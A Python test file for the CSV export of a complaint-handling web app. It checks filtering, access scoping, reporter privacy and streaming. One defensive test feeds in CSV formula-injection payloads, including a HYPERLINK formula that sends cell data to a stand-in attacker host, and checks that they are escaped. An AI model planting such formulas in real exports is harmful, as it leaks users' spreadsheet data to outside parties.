"""CSV exports: the inbox's reports, filtered as the inbox filters them, in the account's
scope, with reporter contact only where the case page would show it, safe to open in a
spreadsheet, and streamed in batches."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

from starlette.testclient import TestClient

from tests.helpers import add_account, login
from tests.test_deadlines import (
    CIDENG,
    GAMBIR,
    PASAR_BARU,
    create,
    create_many,
    logged_in,
    move,
    wib,
)
from web.settings import Settings

NAME, PHONE, EMAIL = "Siti Rahmawati", "081298765432", "siti@example.id"


def export(client: TestClient, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/staf/ekspor/laporan.csv{query}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="aduan-laporan-\d{8}-\d{4}\.csv"',
        response.headers["content-disposition"],
    )
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_an_officer_exports_only_the_reports_of_their_kelurahan(
    client: TestClient, settings: Settings
) -> None:
    mine = create(settings, wib(2026, 3, 2), GAMBIR, reporter_name=NAME, reporter_phone=PHONE)
    other = create(settings, wib(2026, 3, 2), PASAR_BARU, reporter_name="Budi Santoso")
    logged_in(client, settings, "gambir1", "officer", areas=[GAMBIR])
    response = client.get("/staf/ekspor/laporan.csv")
    assert other not in response.text and "Budi Santoso" not in response.text
    lines = export(client)
    assert [r["Kode lacak"] for r in lines] == [mine]
    line = lines[0]
    assert (line["Nama pelapor"], line["Telepon pelapor"]) == (NAME, PHONE)
    assert line["Kelurahan"] == "Gambir" and line["Kecamatan"] == "Gambir"
    assert line["Diterima (WIB)"] == "2026-03-02 09:00"
    assert line["Tenggat tanggapan"] == "2026-03-03 09:00"
    assert line["Status"] == "Diterima" and line["Terlambat"] == "ya"


def test_the_export_follows_the_inbox_filter(client: TestClient, settings: Settings) -> None:
    waiting = create(settings, wib(2026, 3, 2), GAMBIR, description="Got mampet di gang")
    verified = create(settings, wib(2026, 3, 3), GAMBIR, category="jalan")
    move(settings, verified, "verify", wib(2026, 3, 3, 10))
    done = create(settings, wib(2026, 3, 4), CIDENG)
    move(settings, done, "resolve", wib(2026, 3, 4, 12))
    logged_in(client, settings, "spv", "supervisor")
    cases = [
        ("", {waiting, verified}),  # the inbox default: open cases
        ("?status=semua", {waiting, verified, done}),
        ("?status=resolved", {done}),
        ("?status=semua&kelurahan=" + CIDENG, {done}),
        ("?category=jalan", {verified}),
        ("?q=mampet", {waiting}),
        (f"?q={waiting[:4]}-{waiting[4:]}", {waiting}),
        ("?terlambat=1", {waiting, verified}),
    ]
    for query, expected in cases:
        exported = {r["Kode lacak"] for r in export(client, query)}
        assert exported == expected, query
        inbox = client.get(f"/staf{query}").text
        shown = set(re.findall(r'class="case-code" href="/staf/laporan/(\w+)"', inbox))
        assert shown == exported, f"the inbox and the export disagree on {query!r}"


def test_anonymous_reporters_stay_anonymous_in_every_export(
    client: TestClient, settings: Settings
) -> None:
    create(
        settings, wib(2026, 3, 2), GAMBIR, reporter_name=NAME, reporter_phone=PHONE, anonymous=True
    )
    logged_in(client, settings, "admin1", "admin")
    body = client.get("/staf/ekspor/laporan.csv").text
    assert NAME not in body and PHONE not in body
    assert export(client)[0]["Anonim"] == "ya"


def test_a_confidential_reporters_contact_is_exported_for_the_inspectorate_and_admins_only(
    client: TestClient, settings: Settings
) -> None:
    code = create(
        settings,
        wib(2026, 3, 2),
        GAMBIR,
        category="pungli",
        reporter_name=NAME,
        reporter_phone=PHONE,
        reporter_email=EMAIL,
    )
    add_account(settings, "gambir1", areas=[GAMBIR])
    add_account(settings, "inspektur", agency="INSPEKTORAT")
    add_account(settings, "spv", "supervisor")
    add_account(settings, "admin1", "admin")
    for username, sees_contact in (
        ("gambir1", False),
        ("spv", False),
        ("inspektur", True),
        ("admin1", True),
    ):
        client.cookies.clear()
        assert login(client, username).status_code == 303
        lines = export(client)
        if username == "gambir1":
            assert lines == []  # illegal levies are the inspectorate's, not the kelurahan's
            continue
        assert [r["Kode lacak"] for r in lines] == [code], username
        assert lines[0]["Rahasia"] == "ya"
        body = client.get("/staf/ekspor/laporan.csv").text
        for secret in (NAME, PHONE, EMAIL):
            assert (secret in body) is sees_contact, (username, secret)


def test_cells_that_a_spreadsheet_would_run_are_written_as_text(
    client: TestClient, settings: Settings
) -> None:
    create(
        settings,
        wib(2026, 3, 2),
        GAMBIR,
        description='=HYPERLINK("http://jahat.example/?"&A1,"klik")',
        address="+1+1",
        rt_rw="-3",
        reporter_name="@SUM(A1:A9)",
        reporter_phone="+6281234567890",
        lat=-6.175392,
        lon=106.827153,
        location_source="form",
    )
    logged_in(client, settings, "admin1", "admin")
    line = export(client)[0]
    assert line["Isi laporan"] == '\'=HYPERLINK("http://jahat.example/?"&A1,"klik")'
    assert line["Alamat atau titik kenal"] == "'+1+1"
    assert line["RT/RW"] == "'-3"
    assert line["Nama pelapor"] == "'@SUM(A1:A9)"
    assert line["Telepon pelapor"] == "'+6281234567890"
    assert (line["Lintang"], line["Bujur"]) == ("-6.175392", "106.827153")  # numbers stay numbers


def test_a_large_export_is_streamed_in_many_chunks(client: TestClient, settings: Settings) -> None:
    first = wib(2026, 3, 2)
    create_many(settings, [first + timedelta(seconds=i) for i in range(2500)])
    logged_in(client, settings, "spv", "supervisor")
    chunks: list[bytes] = []
    with client.stream(
        "GET", "/staf/ekspor/laporan.csv?status=semua", headers={"Accept-Encoding": "identity"}
    ) as response:
        assert response.status_code == 200
        assert "content-length" not in response.headers  # not buffered into one body
        chunks.extend(response.iter_raw())
    # The byte-order mark, the header, then one chunk per 1,000 rows.
    assert len(chunks) == 5
    assert max(len(chunk) for chunk in chunks) < 400_000
    lines = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(lines) == 1 + 2500
    assert len({line[0] for line in lines[1:]}) == 2500  # no report twice


def test_the_dashboard_table_exports_as_csv_for_supervisors_only(
    client: TestClient, settings: Settings
) -> None:
    create(settings, wib(2026, 3, 2), GAMBIR)
    logged_in(client, settings, "spv", "supervisor")
    response = client.get("/staf/dasbor.csv?periode=bulan&bulan=2026-03&kelompok=instansi")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == (
        'attachment; filename="aduan-dasbor-instansi-20260301-20260331.csv"'
    )
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert lines[0][:2] == ["Instansi", "Diterima"]
    assert lines[1][:2] == ["Belum diteruskan ke instansi", "1"]
    assert lines[-1][:2] == ["Seluruh kota", "1"]
    client.cookies.clear()
    add_account(settings, "gambir1", areas=[GAMBIR])
    assert login(client, "gambir1").status_code == 303
    assert client.get("/staf/dasbor.csv").status_code == 403
